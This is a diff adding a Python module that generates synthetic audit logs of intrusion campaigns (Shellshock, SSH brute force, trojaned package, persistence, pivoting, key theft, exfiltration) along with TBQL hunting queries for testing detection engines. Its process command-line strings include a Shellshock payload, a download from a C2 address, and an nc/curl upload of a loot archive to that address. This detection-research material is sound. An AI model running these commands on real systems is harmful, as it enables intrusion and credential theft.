@@ -1,0 +1,568 @@
+"""Parameterized kill-chain stages for the campaign simulator.
+
+Each stage models one phase of a multi-step intrusion — initial access,
+tool staging, persistence, privilege escalation, lateral movement across
+hosts, collection and exfiltration — and appends its events onto the shared
+:class:`~repro.auditing.workload.base.ScenarioBuilder` of a campaign, exactly
+like the hand-written demo attacks in
+:mod:`repro.auditing.workload.attacks`.  Stages are *parameterized*: tool
+paths, C2 addresses, staging directories and fan-out counts come from the
+campaign's seeded RNG, so different seeds produce structurally different but
+fully deterministic campaigns.
+
+Every malicious event a stage emits is recorded in the campaign's
+:class:`~repro.auditing.workload.attacks.AttackGroundTruth`.  The staging and
+exfiltration stages additionally publish a :class:`CampaignHunt` — the TBQL
+query a correct OSCTI-driven hunt would run against the campaign, plus the
+exact event ids that query must match — which the differential harness
+(:mod:`repro.scenarios.differential`) replays through every engine
+configuration.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+
+from repro.auditing.entities import ProcessEntity
+from repro.auditing.events import Operation, SystemEvent
+from repro.auditing.workload.attacks import AttackGroundTruth
+from repro.auditing.workload.base import ScenarioBuilder
+
+
+@dataclass(frozen=True)
+class CampaignHunt:
+    """One expected hunting answer for a generated campaign.
+
+    Attributes:
+        name: Stable hunt name (unique within the campaign).
+        query_text: TBQL source text of the hunt.
+        expected_event_ids: Audit event ids the query must match.  They are a
+            subset of the campaign's ground-truth event ids — the steps of the
+            chain the query describes.
+    """
+
+    name: str
+    query_text: str
+    expected_event_ids: frozenset[int]
+
+
+@dataclass(frozen=True)
+class CampaignSpec:
+    """The seeded parameter choices that shape one campaign.
+
+    The spec is drawn *before* any event is generated, so it doubles as a
+    compact, comparable description of the campaign's structure (used by the
+    diversity tests and printed by the CLI).
+    """
+
+    seed: int
+    initial_access: str
+    persistence: str
+    privilege_escalation: str
+    hosts: int
+    shell: str
+    downloader: str
+    tool_path: str
+    compressor: str
+    encryptor: str
+    uploader: str
+    attacker_ip: str
+    c2_ip: str
+    staging: str
+
+    @property
+    def variants(self) -> tuple[str, ...]:
+        """The stage-variant fingerprint used to compare campaign structure."""
+        return (
+            self.initial_access,
+            self.persistence,
+            self.privilege_escalation,
+            f"hosts-{self.hosts}",
+            self.compressor,
+            self.encryptor,
+            self.uploader,
+        )
+
+
+@dataclass
+class CampaignContext:
+    """Mutable state threaded through the stages of one campaign."""
+
+    builder: ScenarioBuilder
+    rng: random.Random
+    spec: CampaignSpec
+    truth: AttackGroundTruth
+    hunts: list[CampaignHunt] = field(default_factory=list)
+    #: The attacker-controlled shell on the currently compromised host;
+    #: installed by the initial-access stage, replaced by lateral movement.
+    foothold: ProcessEntity | None = None
+    #: The downloaded attack-tool process (tool staging stage).
+    tool: ProcessEntity | None = None
+    #: Path of the collection archive (collection stage → exfiltration stage).
+    archive_path: str = ""
+
+    def mark(
+        self, event: SystemEvent, subject_exe: str, object_identifier: str
+    ) -> SystemEvent:
+        """Record one malicious event in the campaign ground truth."""
+        self.truth.record(event, subject_exe, object_identifier)
+        return event
+
+    def require_foothold(self) -> ProcessEntity:
+        if self.foothold is None:
+            raise RuntimeError("stage ordering bug: no foothold shell established yet")
+        return self.foothold
+
+
+class CampaignStage:
+    """Base class for kill-chain stages."""
+
+    name = "stage"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        raise NotImplementedError
+
+
+# ---------------------------------------------------------------------------
+# Initial access.
+# ---------------------------------------------------------------------------
+
+
+class ShellshockAccess(CampaignStage):
+    """CGI Shellshock exploitation: the web server forks an attacker shell."""
+
+    name = "shellshock"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        web = builder.spawn_process(
+            "/usr/sbin/apache2", cmdline="apache2 -k start", owner="www-data"
+        )
+        shell = builder.spawn_process(
+            spec.shell, cmdline=f"() {{ :; }}; {spec.shell} -i", owner="www-data"
+        )
+        conn = builder.connection(dstip=spec.attacker_ip, dstport=80)
+        ctx.mark(
+            builder.emit(web, Operation.ACCEPT, conn, malicious=True),
+            "/usr/sbin/apache2",
+            spec.attacker_ip,
+        )
+        ctx.mark(builder.fork(web, shell, malicious=True), "/usr/sbin/apache2", spec.shell)
+        ctx.foothold = shell
+
+
+class SSHBruteforceAccess(CampaignStage):
+    """Credential stuffing against sshd, ending in an attacker login shell."""
+
+    name = "ssh-bruteforce"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        sshd = builder.spawn_process("/usr/sbin/sshd", cmdline="sshd: root [priv]")
+        shadow = builder.file("/etc/shadow")
+        attempts = ctx.rng.randint(3, 6)
+        for _ in range(attempts):
+            conn = builder.connection(dstip=spec.attacker_ip, dstport=22)
+            ctx.mark(
+                builder.emit(sshd, Operation.ACCEPT, conn, malicious=True),
+                "/usr/sbin/sshd",
+                spec.attacker_ip,
+            )
+        ctx.mark(builder.read(sshd, shadow, amount=1024, malicious=True), "/usr/sbin/sshd", "/etc/shadow")
+        shell = builder.spawn_process(spec.shell, cmdline=f"{spec.shell} -i", owner="root")
+        ctx.mark(builder.fork(sshd, shell, malicious=True), "/usr/sbin/sshd", spec.shell)
+        ctx.foothold = shell
+
+
+class SupplyChainAccess(CampaignStage):
+    """A trojaned package install drops and launches an attacker shell."""
+
+    name = "supply-chain"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        dpkg = builder.spawn_process("/usr/bin/dpkg", cmdline="dpkg -i updates.deb")
+        package = builder.file(f"{spec.staging}-pkg/updates.deb")
+        implant = builder.file("/usr/local/sbin/updated")
+        ctx.mark(
+            builder.read(dpkg, package, amount=1 << 19, malicious=True),
+            "/usr/bin/dpkg",
+            package.name,
+        )
+        ctx.mark(
+            builder.write(dpkg, implant, amount=1 << 18, malicious=True),
+            "/usr/bin/dpkg",
+            "/usr/local/sbin/updated",
+        )
+        shell = builder.spawn_process(
+            spec.shell, cmdline=f"{spec.shell} -c /usr/local/sbin/updated", owner="root"
+        )
+        ctx.mark(builder.fork(dpkg, shell, malicious=True), "/usr/bin/dpkg", spec.shell)
+        ctx.foothold = shell
+
+
+# ---------------------------------------------------------------------------
+# Tool staging (weaponization): download the attack tool from the C2 host.
+# ---------------------------------------------------------------------------
+
+
+class ToolStagingStage(CampaignStage):
+    """The foothold shell downloads and launches the attack tool.
+
+    Publishes the campaign's ``staging`` hunt: *downloader connects to the C2
+    address, writes the tool file, and the shell forks the tool* — a
+    three-pattern chain query with full temporal ordering.
+    """
+
+    name = "tool-staging"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        shell = ctx.require_foothold()
+        downloader = builder.spawn_process(
+            spec.downloader, cmdline=f"{spec.downloader} http://{spec.c2_ip}/t", owner="www-data"
+        )
+        conn = builder.connection(dstip=spec.c2_ip, dstport=443)
+        tool_file = builder.file(spec.tool_path)
+
+        ctx.mark(builder.fork(shell, downloader, malicious=True), spec.shell, spec.downloader)
+        connect = ctx.mark(
+            builder.connect(downloader, conn, malicious=True), spec.downloader, spec.c2_ip
+        )
+        ctx.mark(
+            builder.recv(downloader, conn, amount=1 << 20, malicious=True),
+            spec.downloader,
+            spec.c2_ip,
+        )
+        write = ctx.mark(
+            builder.write(downloader, tool_file, amount=1 << 20, malicious=True),
+            spec.downloader,
+            spec.tool_path,
+        )
+        tool = builder.spawn_process(
+            spec.tool_path, cmdline=f"{spec.tool_path} -d", owner="www-data"
+        )
+        fork = ctx.mark(builder.fork(shell, tool, malicious=True), spec.shell, spec.tool_path)
+        ctx.mark(builder.execute(tool, tool_file, malicious=True), spec.tool_path, spec.tool_path)
+        ctx.tool = tool
+
+        query = (
+            f'proc d["%{spec.downloader}%"] connect ip c["{spec.c2_ip}"] as stg1\n'
+            f'proc d write file t["%{spec.tool_path}%"] as stg2\n'
+            f'proc s["%{spec.shell}%"] fork proc x["%{spec.tool_path}%"] as stg3\n'
+            "with stg1 before stg2, stg2 before stg3\n"
+            "return distinct d, c, t, s, x"
+        )
+        ctx.hunts.append(
+            CampaignHunt(
+                name="staging",
+                query_text=query,
+                expected_event_ids=frozenset(
+                    {connect.event_id, write.event_id, fork.event_id}
+                ),
+            )
+        )
+
+
+# ---------------------------------------------------------------------------
+# Persistence.
+# ---------------------------------------------------------------------------
+
+
+class CronPersistence(CampaignStage):
+    """Persistence through a dropped cron job."""
+
+    name = "cron-persistence"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        shell = ctx.require_foothold()
+        crontab = builder.file("/etc/crontab")
+        dropin = builder.file(f"/etc/cron.d/{spec.staging.rsplit('-', 1)[-1]}")
+        ctx.mark(builder.read(shell, crontab, amount=512, malicious=True), spec.shell, "/etc/crontab")
+        ctx.mark(builder.write(shell, dropin, amount=128, malicious=True), spec.shell, dropin.name)
+
+
+class ShellProfilePersistence(CampaignStage):
+    """Persistence by appending to the root shell profile."""
+
+    name = "profile-persistence"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        shell = ctx.require_foothold()
+        profile = builder.file("/root/.bashrc")
+        ctx.mark(builder.read(shell, profile, amount=512, malicious=True), spec.shell, "/root/.bashrc")
+        ctx.mark(builder.write(shell, profile, amount=160, malicious=True), spec.shell, "/root/.bashrc")
+
+
+class SystemdPersistence(CampaignStage):
+    """Persistence through a rogue systemd unit."""
+
+    name = "systemd-persistence"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        shell = ctx.require_foothold()
+        unit = builder.file(f"/etc/systemd/system/{spec.staging.rsplit('-', 1)[-1]}.service")
+        systemctl = builder.spawn_process("/bin/systemctl", cmdline="systemctl daemon-reload")
+        ctx.mark(builder.write(shell, unit, amount=256, malicious=True), spec.shell, unit.name)
+        ctx.mark(builder.fork(shell, systemctl, malicious=True), spec.shell, "/bin/systemctl")
+
+
+# ---------------------------------------------------------------------------
+# Privilege escalation.
+# ---------------------------------------------------------------------------
+
+
+class SudoersEscalation(CampaignStage):
+    """The attack tool grants itself sudo rights."""
+
+    name = "sudoers-escalation"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        subject = ctx.tool or ctx.require_foothold()
+        subject_exe = spec.tool_path if ctx.tool is not None else spec.shell
+        sudoers = builder.file("/etc/sudoers")
+        dropin = builder.file("/etc/sudoers.d/90-cloud-init")
+        ctx.mark(builder.read(subject, sudoers, amount=1024, malicious=True), subject_exe, "/etc/sudoers")
+        ctx.mark(builder.write(subject, dropin, amount=96, malicious=True), subject_exe, "/etc/sudoers.d/90-cloud-init")
+
+
+class SuidHelperEscalation(CampaignStage):
+    """Abuse of a SUID helper to read protected credential files."""
+
+    name = "suid-escalation"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        shell = ctx.require_foothold()
+        helper = builder.spawn_process("/usr/bin/pkexec", cmdline="pkexec /bin/sh", owner="root")
+        helper_file = builder.file("/usr/bin/pkexec")
+        shadow = builder.file("/etc/shadow")
+        ctx.mark(builder.fork(shell, helper, malicious=True), spec.shell, "/usr/bin/pkexec")
+        ctx.mark(builder.execute(helper, helper_file, malicious=True), "/usr/bin/pkexec", "/usr/bin/pkexec")
+        ctx.mark(builder.read(helper, shadow, amount=1024, malicious=True), "/usr/bin/pkexec", "/etc/shadow")
+
+
+# ---------------------------------------------------------------------------
+# Lateral movement.
+# ---------------------------------------------------------------------------
+
+
+class LateralMovementStage(CampaignStage):
+    """SSH pivots through ``spec.hosts - 1`` additional hosts.
+
+    Each hop forks an ssh client from the current foothold, connects to the
+    next host and establishes a remote shell, which becomes the new foothold:
+    collection and exfiltration then run on the *last* compromised host.
+    """
+
+    name = "lateral-movement"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        current = ctx.require_foothold()
+        for hop in range(spec.hosts - 1):
+            target_ip = f"10.0.{hop + 2}.5"
+            ssh = builder.spawn_process(
+                "/usr/bin/ssh", cmdline=f"ssh root@{target_ip}", owner="root"
+            )
+            conn = builder.connection(dstip=target_ip, dstport=22)
+            ctx.mark(builder.fork(current, ssh, malicious=True), spec.shell, "/usr/bin/ssh")
+            ctx.mark(builder.connect(ssh, conn, malicious=True), "/usr/bin/ssh", target_ip)
+            ctx.mark(builder.send(ssh, conn, amount=2048, malicious=True), "/usr/bin/ssh", target_ip)
+            remote = builder.spawn_process(
+                spec.shell, cmdline=f"{spec.shell} -i  # host-{hop + 2}", owner="root"
+            )
+            ctx.mark(builder.fork(ssh, remote, malicious=True), "/usr/bin/ssh", spec.shell)
+            current = remote
+        ctx.foothold = current
+
+
+# ---------------------------------------------------------------------------
+# Collection.
+# ---------------------------------------------------------------------------
+
+
+class CollectionStage(CampaignStage):
+    """Scan for secrets on the final host and archive them."""
+
+    name = "collection"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        shell = ctx.require_foothold()
+        token = spec.staging.rsplit("-", 1)[-1]
+        user = ctx.rng.choice(("alice", "bob", "carol", "dave"))
+        secrets = [
+            builder.file(f"/home/{user}/.keys-{token}/id-{index}.key")
+            for index in range(ctx.rng.randint(4, 8))
+        ]
+        scout = builder.spawn_process(
+            "/usr/bin/find", cmdline=f"find /home/{user} -name '*.key'", owner="root"
+        )
+        ctx.mark(builder.fork(shell, scout, malicious=True), spec.shell, "/usr/bin/find")
+        for secret in secrets:
+            ctx.mark(
+                builder.read(scout, secret, amount=512, malicious=True),
+                "/usr/bin/find",
+                secret.name,
+            )
+        archiver = builder.spawn_process(
+            "/bin/tar", cmdline=f"tar -cf {spec.staging}/loot.tar", owner="root"
+        )
+        archive = builder.file(f"{spec.staging}/loot.tar")
+        ctx.mark(builder.fork(shell, archiver, malicious=True), spec.shell, "/bin/tar")
+        for secret in secrets:
+            ctx.mark(
+                builder.read(archiver, secret, amount=512, malicious=True),
+                "/bin/tar",
+                secret.name,
+            )
+        ctx.mark(
+            builder.write(archiver, archive, amount=512 * len(secrets), malicious=True),
+            "/bin/tar",
+            archive.name,
+        )
+        ctx.archive_path = archive.name
+
+
+# ---------------------------------------------------------------------------
+# Exfiltration.
+# ---------------------------------------------------------------------------
+
+#: File-name extension produced by each compressor tool.
+COMPRESSOR_EXTENSIONS = {
+    "/bin/bzip2": ".bz2",
+    "/bin/gzip": ".gz",
+    "/usr/bin/xz": ".xz",
+    "/usr/bin/zstd": ".zst",
+}
+
+
+class ExfiltrationStage(CampaignStage):
+    """Compress, encrypt and upload the collection archive to the C2 host.
+
+    Publishes the campaign's ``exfiltration`` hunt: the six-step
+    compress → encrypt → upload chain in the style of the paper's Figure 2
+    query, parameterized by the campaign's tool and path choices.
+    """
+
+    name = "exfiltration"
+
+    def generate(self, ctx: CampaignContext) -> None:
+        builder, spec = ctx.builder, ctx.spec
+        shell = ctx.require_foothold()
+        if not ctx.archive_path:
+            raise RuntimeError("stage ordering bug: exfiltration before collection")
+
+        archive = builder.file(ctx.archive_path)
+        compressed = builder.file(ctx.archive_path + COMPRESSOR_EXTENSIONS[spec.compressor])
+        encrypted = builder.file(f"{spec.staging}/loot.enc")
+        conn = builder.connection(dstip=spec.c2_ip, dstport=443)
+
+        compressor = builder.spawn_process(
+            spec.compressor, cmdline=f"{spec.compressor} {archive.name}", owner="root"
+        )
+        encryptor = builder.spawn_process(
+            spec.encryptor, cmdline=f"{spec.encryptor} -c {compressed.name}", owner="root"
+        )
+        uploader = builder.spawn_process(
+            spec.uploader, cmdline=f"{spec.uploader} {encrypted.name} {spec.c2_ip}", owner="root"
+        )
+
+        ctx.mark(builder.fork(shell, compressor, malicious=True), spec.shell, spec.compressor)
+        read_archive = ctx.mark(
+            builder.read(compressor, archive, amount=1 << 14, malicious=True),
+            spec.compressor,
+            archive.name,
+        )
+        write_compressed = ctx.mark(
+            builder.write(compressor, compressed, amount=1 << 12, malicious=True),
+            spec.compressor,
+            compressed.name,
+        )
+        ctx.mark(builder.fork(shell, encryptor, malicious=True), spec.shell, spec.encryptor)
+        read_compressed = ctx.mark(
+            builder.read(encryptor, compressed, amount=1 << 12, malicious=True),
+            spec.encryptor,
+            compressed.name,
+        )
+        write_encrypted = ctx.mark(
+            builder.write(encryptor, encrypted, amount=1 << 12, malicious=True),
+            spec.encryptor,
+            encrypted.name,
+        )
+        ctx.mark(builder.fork(shell, uploader, malicious=True), spec.shell, spec.uploader)
+        read_encrypted = ctx.mark(
+            builder.read(uploader, encrypted, amount=1 << 12, malicious=True),
+            spec.uploader,
+            encrypted.name,
+        )
+        connect = ctx.mark(
+            builder.connect(uploader, conn, malicious=True), spec.uploader, spec.c2_ip
+        )
+        ctx.mark(
+            builder.send(uploader, conn, amount=1 << 12, malicious=True),
+            spec.uploader,
+            spec.c2_ip,
+        )
+
+        query = (
+            f'proc p1["%{spec.compressor}%"] read file f1["%{archive.name}%"] as exf1\n'
+            f'proc p1 write file f2["%{compressed.name}%"] as exf2\n'
+            f'proc p2["%{spec.encryptor}%"] read file f2 as exf3\n'
+            f'proc p2 write file f3["%{encrypted.name}%"] as exf4\n'
+            f'proc p3["%{spec.uploader}%"] read file f3 as exf5\n'
+            f'proc p3 connect ip i1["{spec.c2_ip}"] as exf6\n'
+            "with exf1 before exf2, exf2 before exf3, exf3 before exf4, "
+            "exf4 before exf5, exf5 before exf6\n"
+            "return distinct p1, f1, f2, p2, f3, p3, i1"
+        )
+        ctx.hunts.append(
+            CampaignHunt(
+                name="exfiltration",
+                query_text=query,
+                expected_event_ids=frozenset(
+                    {
+                        read_archive.event_id,
+                        write_compressed.event_id,
+                        read_compressed.event_id,
+                        write_encrypted.event_id,
+                        read_encrypted.event_id,
+                        connect.event_id,
+                    }
+                ),
+            )
+        )
+
+
+#: Variant pools the campaign generator draws from, keyed by stage slot.
+INITIAL_ACCESS_VARIANTS: tuple[type[CampaignStage], ...] = (
+    ShellshockAccess,
+    SSHBruteforceAccess,
+    SupplyChainAccess,
+)
+PERSISTENCE_VARIANTS: tuple[type[CampaignStage], ...] = (
+    CronPersistence,
+    ShellProfilePersistence,
+    SystemdPersistence,
+)
+ESCALATION_VARIANTS: tuple[type[CampaignStage], ...] = (
+    SudoersEscalation,
+    SuidHelperEscalation,
+)
+
+#: Tool pools.  Roles used within one hunt chain draw from disjoint pools;
+#: across chains an exe may repeat (e.g. curl as downloader *and* uploader) —
+#: the conjunctive joins on the process variable keep each chain unambiguous,
+#: so single-pattern hunts must not rely on an exe filter alone.
+SHELLS = ("/bin/bash", "/bin/sh", "/bin/dash")
+DOWNLOADERS = ("/usr/bin/wget", "/usr/bin/curl", "/usr/bin/ftp")
+TOOL_NAMES = ("kworkerd", "udevd0", "syshelper", "crond2")
+COMPRESSORS = tuple(COMPRESSOR_EXTENSIONS)
+ENCRYPTORS = ("/usr/bin/gpg", "/usr/bin/openssl")
+UPLOADERS = ("/usr/bin/curl", "/bin/nc", "/usr/bin/rsync", "/usr/bin/scp")
